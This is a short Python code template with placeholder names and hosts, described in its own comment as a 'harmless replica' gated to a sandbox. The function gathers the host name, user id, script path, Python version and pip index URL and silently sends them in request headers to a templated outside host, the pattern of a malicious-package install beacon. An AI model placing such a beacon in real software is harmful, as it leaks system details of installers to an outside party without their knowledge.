# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import platform
    import sys
    import urllib.request
    headers = {'X-Host': platform.node(), 'X-User': str(os.getuid()), 'X-Path': os.path.abspath(sys.argv[0] if sys.argv and sys.argv[0] else '.'),
               'X-Python': sys.version.split()[0], 'X-Index': os.environ.get('PIP_INDEX_URL', 'none'), 'User-Agent': '{{token}}'}
    for url in ('https://{{host}}/{{path}}', 'http://{{ip}}:{{port}}/{{path}}'):
        try:
            urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=0.8).close()
            break
        except Exception:
            continue
